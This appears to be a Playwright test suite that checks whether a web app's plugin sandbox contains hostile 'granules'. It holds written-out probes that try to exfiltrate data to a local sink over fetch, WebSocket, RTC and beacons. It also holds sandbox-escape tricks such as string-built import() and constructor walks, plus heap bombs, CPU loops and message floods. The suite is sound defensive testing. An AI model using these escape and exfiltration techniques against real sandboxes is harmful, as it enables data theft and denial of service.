// Hostile granules in Chromium, run the way a user runs them: packed like any contributed granule, imported on the
// Twins page, composed into the JGAurora twin as its appearance context and run. An exfiltration sink on 127.0.0.1
// (HTTP, WebSocket and any TCP connection, and UDP on the same port for WebRTC) must receive nothing; the tab must
// survive every attack, the other contexts must keep serving, and a granule over a limit is stopped and reported.
import { createServer, type Server } from 'node:http';
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { test, expect } from './fixtures';
import { composeAppearance, hostileGranule } from './hostile';

const hostile = (name: string, controller: string): Uint8Array => hostileGranule(name, controller);

let sink: Server;
let udp: UdpSocket;
let SINK = '';
const hits: string[] = [];
test.beforeAll(async () => {
  sink = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.setHeader('access-control-allow-origin', '*');
    res.end('export default 1;');
  });
  sink.on('connection', (s) => hits.push(`tcp from ${s.remoteAddress}`));
  await new Promise<void>((r) => sink.listen(0, '127.0.0.1', r));
  const port = (sink.address() as AddressInfo).port;
  SINK = `http://127.0.0.1:${port}`;
  udp = createSocket('udp4');
  udp.on('message', (_m, from) => hits.push(`udp from ${from.address}`));
  await new Promise<void>((r) => udp.bind(port, '127.0.0.1', r));
});
test.afterAll(async () => {
  udp.close();
  await new Promise<void>((r) => sink.close(() => r()));
});

/** A granule whose view runs `attacks` (an object of name → function, async allowed) and shows what each returned. */
function prober(attacks: string): string {
  return `
    const SINK = ${JSON.stringify(SINK)};
    const attacks = ${attacks};
    const show = (v) => v === undefined ? 'undefined' : v === null ? 'null' : typeof v === 'object' || typeof v === 'function' ? 'reached ' + typeof v : String(v);
    exports.operations = {
      scene: () => ({}), pose: () => ({}), placed: () => [],
      view: async () => {
        const items = [];
        for (const name of Object.keys(attacks)) {
          let r;
          try { r = show(await attacks[name]()); } catch (e) { r = 'blocked'; }
          items.push([name, r]);
        }
        return { type: 'kv', items };
      },
    };`;
}

const composeWith = composeAppearance;

/** The attack's results as shown in the appearance context's view. */
async function results(page: Page, count: number): Promise<Record<string, string>> {
  const view = page.getByTestId('context-view');
  await expect(view.locator('dl.kv dd')).toHaveCount(count);
  const keys = await view.locator('dl.kv dt').allTextContents();
  const values = await view.locator('dl.kv dd').allTextContents();
  return Object.fromEntries(keys.map((k, i) => [k, values[i]!]));
}

async function expectTabAndTwinAlive(page: Page): Promise<void> {
  expect(await page.evaluate(() => 6 * 7)).toBe(42);
  await page.locator('[data-context="mechanical"]').first().click();
  await expect(page.getByTestId('context-view')).toContainText('JGAurora Z-603S');
  await new Promise((r) => setTimeout(r, 1500)); // late timers and beacons would arrive by now
  expect(hits).toEqual([]);
}

const NOT_REACHED = /^(undefined|blocked|null|refused)$/;

test.describe('hostile granules in Chromium', () => {
  test.beforeEach(() => {
    hits.length = 0;
  });

  test('attack: string compilation through WorkerGlobalScope timers, prototype walks, async/generator constructors, eval and import() reaches nothing', async ({
    page,
    stack,
  }) => {
    // Source text that imports and fetches from the sink, assembled at run time (the word "import" in a granule's
    // files is refused at load, which is no protection once code is built from strings).
    const code = (tag: string) => `('im' + 'port(' + JSON.stringify(SINK + '/${tag}') + '); fetch(' + JSON.stringify(SINK + '/${tag}') + ')')`;
    const attacks = `{
      protoTimers: () => { let n = 0; for (let o = globalThis; o; o = Object.getPrototypeOf(o)) for (const k of ['setTimeout', 'setInterval']) { const d = Object.getOwnPropertyDescriptor(o, k); if (d && typeof d.value === 'function') { d.value.call(globalThis, ${code('timer')}, 0); n++; } } return n ? 'reached ' + n : undefined; },
      workerGlobalScope: () => typeof WorkerGlobalScope === 'undefined' ? undefined : (WorkerGlobalScope.prototype.setTimeout.call(self, ${code('wgs')}, 0), 'reached'),
      functionCtor: () => { const F = (function () {}).constructor; F(${code('fn')})(); return F('return typeof fetch + typeof importScripts + typeof self')(); },
      objectWalk: () => ({}).constructor.constructor('return typeof fetch + typeof self')(),
      asyncCtor: async () => { const A = Object.getPrototypeOf(async function () {}).constructor; return await A('return typeof fetch + typeof self')(); },
      generatorCtor: () => Object.getPrototypeOf(function* () {}).constructor('yield typeof fetch + typeof self')().next().value,
      asyncGeneratorCtor: async () => (await Object.getPrototypeOf(async function* () {}).constructor('yield typeof fetch + typeof self')().next()).value,
      eval: () => (0, eval)('typeof fetch + typeof self'),
      importRemote: async () => { await Function('u', 'return im' + 'port(u)')(SINK + '/remote.mjs'); return 'loaded'; },
      importData: async () => { await Function('u', 'return im' + 'port(u)')('data:text/javascript,export default 1'); return 'loaded'; },
    }`;
    await composeWith(page, stack.appUrl, hostile('compiler', prober(attacks)), 'compiler');
    const r = await results(page, 10);
    for (const k of ['protoTimers', 'workerGlobalScope', 'importRemote', 'importData']) expect([k, r[k]]).toEqual([k, expect.stringMatching(NOT_REACHED)]);
    // Compiling strings works — inside QuickJS, where no web API exists.
    for (const k of ['functionCtor', 'objectWalk', 'asyncCtor', 'generatorCtor', 'asyncGeneratorCtor', 'eval'])
      expect([k, r[k]]).toEqual([k, expect.stringMatching(/^(undefinedundefined(undefined)?|blocked)$/)]);
    await expectTabAndTwinAlive(page);
  });

  test('attack: replacing JSON.parse / JSON.stringify and other built-ins fails and forges nothing', async ({ page, stack }) => {
    const attacks = `{
      'JSON.stringify': () => { const o = JSON.stringify; try { JSON.stringify = () => '{"t":"emit","topic":"pose","payload":"forged"}'; } catch (e) {} return JSON.stringify === o ? 'refused' : 'replaced'; },
      'JSON.parse': () => { const o = JSON.parse; try { JSON.parse = () => ({ t: 'load', files: {}, entry: 'x' }); } catch (e) {} return JSON.parse === o ? 'refused' : 'replaced'; },
      'Object.prototype': () => { try { Object.prototype.t = 'call'; } catch (e) {} return ({}).t === undefined ? 'refused' : 'replaced'; },
      'Promise.prototype.then': () => { const o = Promise.prototype.then; try { Promise.prototype.then = function () {}; } catch (e) {} return Promise.prototype.then === o ? 'refused' : 'replaced'; },
      'Function.prototype.call': () => { const o = Function.prototype.call; try { Function.prototype.call = () => 1; } catch (e) {} return Function.prototype.call === o ? 'refused' : 'replaced'; },
    }`;
    await composeWith(page, stack.appUrl, hostile('poison', prober(attacks)), 'poison');
    const r = await results(page, 5);
    expect(Object.entries(r).filter(([, v]) => v !== 'refused')).toEqual([]);
    // The granule still answers correctly afterwards: its bootstrap was not poisoned.
    await page.locator('[data-context="appearance"]').first().click();
    await expect(page.getByTestId('context-view').locator('dl.kv dd')).toHaveCount(5);
    await expect(page.getByTestId('context-states')).not.toContainText('failed');
    await expectTabAndTwinAlive(page);
  });

  test('attack: indexedDB, caches, OPFS and webkitRequestFileSystemSync are out of reach', async ({ page, stack }) => {
    const attacks = `{
      indexedDB: () => { const r = indexedDB.open('mallory'); return r; },
      caches: async () => (await caches.open('mallory')).put(SINK, new Response('x')),
      opfs: async () => navigator.storage.getDirectory(),
      webkitRequestFileSystemSync: () => webkitRequestFileSystemSync(1, 1024),
      webkitRequestFileSystem: () => webkitRequestFileSystem(1, 1024, () => {}),
      walkForStorage: () => { const found = []; for (let o = globalThis; o; o = Object.getPrototypeOf(o)) for (const k of Object.getOwnPropertyNames(o)) if (/indexedDB|caches|storage|FileSystem|localStorage/i.test(k)) found.push(k); return found.length ? found.join(',') : undefined; },
    }`;
    await composeWith(page, stack.appUrl, hostile('storage', prober(attacks)), 'storage');
    const r = await results(page, 6);
    for (const [k, v] of Object.entries(r)) expect([k, v]).toEqual([k, expect.stringMatching(NOT_REACHED)]);
    // Nothing was written under the app's origin either.
    const stored = await page.evaluate(async () => ({ dbs: (await indexedDB.databases()).map((d) => d.name), caches: await caches.keys() }));
    expect(stored.dbs).not.toContain('mallory');
    expect(stored.caches).not.toContain('mallory');
    await expectTabAndTwinAlive(page);
  });

  test('attack: every egress path (fetch, import, fonts, images, WebSocket, RTC, beacons, EventSource, XHR, importScripts) sends nothing to the sink', async ({
    page,
    stack,
  }) => {
    const attacks = `{
      fetch: () => fetch(SINK + '/fetch?d=secret'),
      xhr: () => { const x = new XMLHttpRequest(); x.open('GET', SINK + '/xhr'); x.send(); return x; },
      fontFace: () => new FontFace('x', 'url(' + SINK + '/font)').load(),
      image: () => { const i = new Image(); i.src = SINK + '/img'; return i; },
      imageBitmap: async () => createImageBitmap(await (await fetch(SINK + '/bmp')).blob()),
      webSocket: () => new WebSocket(SINK.replace('http', 'ws') + '/ws'),
      rtc: async () => { const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + SINK.slice(7) }] }); pc.createDataChannel('x'); await pc.setLocalDescription(await pc.createOffer()); return pc; },
      sendBeacon: () => navigator.sendBeacon(SINK + '/beacon', 'secret') || undefined,
      eventSource: () => new EventSource(SINK + '/sse'),
      importScripts: () => importScripts(SINK + '/script.js'),
      nestedWorker: () => new Worker(SINK + '/worker.js'),
      dynamicImport: async () => { await Function('u', 'return im' + 'port(u)')(SINK + '/dyn.mjs'); return 'loaded'; },
    }`;
    await composeWith(page, stack.appUrl, hostile('egress', prober(attacks)), 'egress');
    const r = await results(page, 12);
    for (const [k, v] of Object.entries(r)) expect([k, v]).toEqual([k, expect.stringMatching(NOT_REACHED)]);
    await expectTabAndTwinAlive(page);
  });

  test('attack: a heap bomb and huge ArrayBuffers stop the granule only; the tab survives', async ({ page, stack }) => {
    await composeWith(
      page,
      stack.appUrl,
      hostile(
        'bomb',
        "exports.operations = { scene: () => 1, pose: () => 1, placed: () => 1, view: () => { const keep = []; try { new ArrayBuffer(4 * 1024 * 1024 * 1024 - 1); } catch (e) {} for (let i = 0; ; i++) keep.push(new Uint8Array(64 * 1024 * 1024), 'y'.repeat(1 << 20) + i); } };",
      ),
      'bomb',
    );
    await expect(page.getByTestId('incidents')).toContainText('appearance: memory');
    await expect(page.getByTestId('context-states')).toContainText('failed — it ran out of memory');
    await expectTabAndTwinAlive(page);
  });

  test('attack: a 512 MB message is never built or sent; the tab survives', async ({ page, stack }) => {
    await composeWith(
      page,
      stack.appUrl,
      hostile('huge', "exports.operations = { scene: () => 1, pose: () => 1, placed: () => 1, view: () => 'z'.repeat(512 * 1000 * 1000) };"),
      'huge',
    );
    await expect(page.getByTestId('incidents')).toContainText('appearance: memory');
    await expect(page.getByTestId('context-states')).toContainText('failed');
    await expectTabAndTwinAlive(page);
  });

  test('attack: a CPU loop in a timer is stopped and shown as "stopped: used too much processor time"', async ({ page, stack }) => {
    await composeWith(
      page,
      stack.appUrl,
      hostile(
        'spin',
        "exports.start = () => { twin.setTimeout(() => { for (;;) {} }, 300); };\nexports.operations = { scene: () => 1, pose: () => 1, placed: () => 1, view: () => ({ type: 'kv', items: [['armed', 'yes']] }) };",
      ),
      'spin',
    );
    await expect(page.getByTestId('context-states')).toContainText('failed — stopped: used too much processor time');
    await expect(page.getByTestId('incidents')).toContainText('appearance: hang');
    await expect(page.getByTestId('incidents')).toContainText('processor time');
    await expectTabAndTwinAlive(page);
  });

  test('attack: a CPU loop in an operation is stopped and reported', async ({ page, stack }) => {
    await composeWith(
      page,
      stack.appUrl,
      hostile('opspin', 'exports.operations = { scene: () => 1, pose: () => 1, placed: () => 1, view: () => { for (;;) {} } };'),
      'opspin',
    );
    await expect(page.getByTestId('context-states')).toContainText('failed — stopped: used too much processor time');
    await expectTabAndTwinAlive(page);
  });

  test('attack: a flood of messages stops the flooding granule only', async ({ page, stack }) => {
    await composeWith(
      page,
      stack.appUrl,
      hostile(
        'flood',
        "exports.operations = { scene: () => 1, pose: () => 1, placed: () => 1, view: () => { for (let i = 0; i < 1e7; i++) twin.emit('pose', { i, pad: 'p'.repeat(512) }); return null; } };",
      ),
      'flood',
    );
    await expect(page.getByTestId('incidents')).toContainText('messages a second');
    await expect(page.getByTestId('context-states')).toContainText('failed — stopped: it sent more than');
    await expectTabAndTwinAlive(page);
  });
});
